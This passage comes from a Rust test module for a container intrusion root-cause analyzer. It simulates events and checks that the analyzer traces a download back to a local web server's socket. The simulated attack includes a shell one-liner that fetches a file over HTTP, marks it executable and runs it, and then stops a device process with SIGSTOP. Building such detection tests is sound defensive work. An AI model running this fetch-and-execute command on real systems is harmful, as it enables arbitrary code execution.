        let mut tester = Proc::new(350, 1, "/usr/bin/tester");
        let mut host = Proc::new(600, 1, "/usr/bin/make");
        for i in 0..20 {
            sim.advance_ms(200);
            sim.connect(&mut agent, inet("127.0.0.1", 8080));
            sim.accept(&mut dev, lfd, inet("127.0.0.1", 40000 + i));
            sim.connect(&mut tester, inet("127.0.0.1", 9464));
            sim.accept(&mut agent, afd, inet("127.0.0.1", 41000 + i));
            let mut cc = sim.fork(&host, 700 + u32::from(i));
            sim.exec(&mut cc, "/usr/bin/cc", 50, &["cc", "-c", "x.c"]);
            sim.create(&mut cc, "/home/u/x.o", 60 + u64::from(i));
            sim.exit(&cc);
        }
        let _ = &mut host;
        // the web server, started once the device was seen healthy
        let mut server = sim.fork(&tester, 400);
        sim.exec(
            &mut server,
            "/usr/bin/python3.11",
            40,
            &["python3", "-m", "http.server"],
        );
        let sfd = sim.bind(&mut server, inet("127.0.0.1", 18777));
        // docker exec
        let mut runc = sim.fork(&shim, 520);
        sim.exec(
            &mut runc,
            "/usr/sbin/runc",
            70,
            &["runc", "exec", "--process", "/tmp/p"],
        );
        let mut init = sim.fork(&runc, 521);
        init.ppid = 500; // runc exited: the shim, a subreaper, adopted it
        sim.exec(
            &mut init,
            "/bin/busybox",
            80,
            &[
                "sh",
                "-c",
                "wget -q -O /tmp/x http://127.0.0.1:18777/x && chmod +x /tmp/x && /tmp/x",
            ],
        );
        let mut wget = sim.fork(&init, 522);
        sim.exec(
            &mut wget,
            "/bin/busybox",
            80,
            &["wget", "-q", "-O", "/tmp/x", "http://127.0.0.1:18777/x"],
        );
        sim.connect(&mut wget, inet("127.0.0.1", 18777));
        sim.accept(&mut server, sfd, inet("127.0.0.1", 40918));
        sim.create(&mut wget, "/tmp/x", 90);
        sim.exit(&wget);
        let chmod = sim.fork(&init, 523);
        let mut chmod = chmod;
        sim.exec(&mut chmod, "/bin/busybox", 80, &["chmod", "+x", "/tmp/x"]);
        sim.chmod(&chmod, "/tmp/x", 90, 0o755);
        sim.exit(&chmod);
        sim.exec(&mut init, "/tmp/x", 90, &["/bin/sh", "/tmp/x"]);
        let mut pidof = sim.fork(&init, 524);
        sim.exec(
            &mut pidof,
            "/bin/busybox",
            80,
            &["pidof", "mamori-wot-device"],
        );
        sim.exit(&pidof);
        sim.kill(&init, &device, 19);
        // the monitor keeps probing the stopped device
        for i in 0..5 {
            sim.advance_ms(500);
            sim.connect(&mut agent, inet("127.0.0.1", 8080));
            let _ = i;
        }
        let until = sim.now();
        (sim.events, until)
    }

    fn analyzer(events: Vec<mamori_audit::AuditEvent>, config: AuditConfig) -> Analyzer {
        let mut ring = Ring::new(Duration::from_secs(3600), 1_000_000);
        for e in events {
            let now = e.time_ns;
            if let Some(e) = crate::audit::slim(e) {
                ring.push(Arc::new(e), now);
            }
        }
        Analyzer::new(
            config,
            Arc::new(Mutex::new(crate::audit::FeedState::new(ring))),
        )
    }

    fn live() -> HashMap<u32, LiveProc> {
        HashMap::from([
            (
                510,
                LiveProc {
                    ppid: 500,
                    comm: "docker-init".into(),
                    exe: "/sbin/docker-init".into(),
                    cmdline: vec!["/sbin/docker-init".into(), "--".into()],
                },
            ),
            (
                511,
                LiveProc {
                    ppid: 510,
                    comm: "mamori-wot-devi".into(),
                    exe: "/mamori-wot-device".into(),
                    cmdline: vec!["/mamori-wot-device".into()],
                },
            ),
        ])
    }

    fn target(until_ns: i64) -> RootCauseTarget {
        RootCauseTarget {
            container: "dev".into(),
            init_pid: Some(510),
            since_ns: until_ns - 3_000_000_000,
            until_ns,
        }
    }

    fn config() -> AuditConfig {
        AuditConfig {
            late_seconds: 0.0,
            ..AuditConfig::default()
        }
    }

    #[test]
    fn the_download_run_by_docker_exec_is_traced_to_the_server_socket() {
        let (events, until) = intrusion();
        let a = analyzer(events, config());
        let (outcome, v, elapsed, size) =
            a.run_on(&target(until), 510, Some(500), &live(), Instant::now());
        let text = serde_json::to_string_pretty(&v).expect("json");
        assert_eq!(outcome, Outcome::Traced, "{text}");
        assert_eq!(v["available"], true);
        assert!(size.is_some_and(|(n, e)| n > 0 && e > 0));
        assert!(elapsed < Duration::from_secs(1));
        // the entry: the web server's socket, through the wget inside the container, chosen
        // over the monitor's probes of the device (local sockets into the workload too)
        assert_eq!(v["entry"]["label"], "localhost:18777", "{text}");
        assert_eq!(v["entry"]["kind"], "local_socket");
        assert_eq!(v["entry"]["into"]["pid"], 522);
        assert_eq!(v["entry"]["into_workload"], true);
        assert_eq!(v["entry"]["direct"], true);
        let candidates = v["entry"]["candidates"].as_array().expect("candidates");
        let probes = candidates
            .iter()
            .find(|c| c["label"] == "localhost:8080")
            .unwrap_or_else(|| panic!("the probes are a candidate: {text}"));
        assert_eq!(
            probes["explains"], 1,
            "the device's own input explains the device only"
        );
        // chain: socket → wget → /tmp/x → the script's shell → the device (kill)
        let chain: Vec<String> = v["chain"]
            .as_array()
            .expect("chain")
            .iter()
            .map(|s| s["label"].as_str().unwrap_or("").to_string())
            .collect();
        assert_eq!(chain.first().map(String::as_str), Some("localhost:18777"));
        assert!(chain.iter().any(|l| l == "busybox[522]"), "{chain:?}");
        assert!(chain.iter().any(|l| l == "/tmp/x"), "{chain:?}");
        assert!(chain.iter().any(|l| l == "x[521]"), "{chain:?}");
        assert_eq!(
            chain.last().map(String::as_str),
            Some("mamori-wot-device[511]"),
            "{chain:?}"
        );
        let wget = &v["chain"][1];
        assert_eq!(wget["argv"][0], "wget");
        assert_eq!(wget["by"]["op"], "connect");
        // what the entry touched: /tmp/x and the stopped device (named from /proc)
        let touched = v["touched"]["items"].as_array().expect("touched");
        let device = touched
            .iter()
            .find(|t| t["pid"] == 511)
            .unwrap_or_else(|| panic!("device not touched: {text}"));
        assert_eq!(device["op"], "kill");
        assert_eq!(device["detail"], "SIGSTOP");
        assert_eq!(device["exe"], "/mamori-wot-device");
        assert!(touched.iter().any(|t| t["label"] == "/tmp/x"));
        // the host's compiler runs are neither the container's nor touched
        assert!(!text.contains("/home/u/x.o"), "{text}");
        // detection points: most recent first, the signal first
        let points = v["detection_points"].as_array().expect("points");
        assert_eq!(points[0]["kind"], "signalled");
        assert!(points
            .iter()
            .any(|p| p["kind"] == "file" && p["label"] == "/tmp/x"));
        assert!(
            points.iter().all(|p| p["label"] != "runc[520]"),
            "the runtime is no detection point"
        );
        let procs = v["container_processes"].as_array().expect("processes");
        assert!(procs
            .iter()
            .any(|p| p["pid"] == 520 && p["runtime"] == true));
        assert!(
            procs.iter().all(|p| p["pid"] != 500),
            "the shim is not the container's"
        );
        assert!(
            procs.iter().all(|p| p["pid"] != 700),
            "host processes are not"
        );
        let dot = v["dot"].as_str().expect("dot");
        assert!(dot.starts_with("digraph"), "{dot}");
        assert!(dot.contains("ENTRY POINT\\nlocalhost:18777"), "{dot}");
        assert!(v["elapsed_ms"].as_f64().is_some());

        let mut m = AuditMetrics::default();
        a.stats.lock().expect("lock").outcomes.insert("traced", 1);
        a.fill_metrics(&mut m);
        assert_eq!(m.analyses, vec![("traced".to_string(), 1)]);
    }

    #[test]
    fn without_the_containers_events_or_process_there_is_no_analysis() {
        let (events, until) = intrusion();
        let a = analyzer(events, config());
        let v = a.analyse(&RootCauseTarget {
            init_pid: None,
            ..target(until)
        });
        assert_eq!(v["available"], false);
        assert!(
            v["why"].as_str().is_some_and(|w| w.contains("not running")),
            "{v}"
        );
        // a container whose processes the window never names
        let (outcome, v, _, _) = a.run_on(
            &target(until),
            9100,
            Some(9000),
            &HashMap::new(),
            Instant::now(),
        );
        assert_eq!(outcome, Outcome::NoEvents, "{v}");
        assert_eq!(v["available"], false);
        // a window with no event at all
        let (outcome, v, _, _) = a.run_on(
            &target(until + 3_600_000_000_000),
            510,
            Some(500),
            &live(),
            Instant::now(),
        );
        assert_eq!(outcome, Outcome::NoEvents, "{v}");
        let st = a.stats.lock().expect("lock");
        assert_eq!(st.outcomes.get("not_running"), Some(&1));
    }

    #[test]
    fn the_most_recent_detection_points_are_kept() {
        let (events, until) = intrusion();
        let a = analyzer(
            events,
            AuditConfig {
                max_detection_points: 2,
                ..config()
            },
        );
        let (_, v, _, _) = a.run_on(&target(until), 510, Some(500), &live(), Instant::now());
        assert_eq!(v["detection_points"].as_array().map(Vec::len), Some(2));
        assert!(
            v["detection_points_total"].as_u64().is_some_and(|n| n > 2),
            "{v}"
        );
        assert_eq!(v["detection_points"][0]["kind"], "signalled");
    }

    #[test]
    fn globs() {
        assert!(glob("*/runc", "/usr/sbin/runc"));
        assert!(glob("runc:*", "runc:[2:INIT]"));
        assert!(glob(
            "*/containerd-shim*",
            "/usr/bin/containerd-shim-runc-v2"
        ));
        assert!(!glob("*/runc", "/usr/sbin/runc-helper"));
        assert!(!glob("runc", "runc2"));
        assert!(glob("*", ""));
        assert!(glob("a*b*c", "aXXbYYc"));
        assert!(!glob("a*b*c", "aXXbYY"));
    }
}
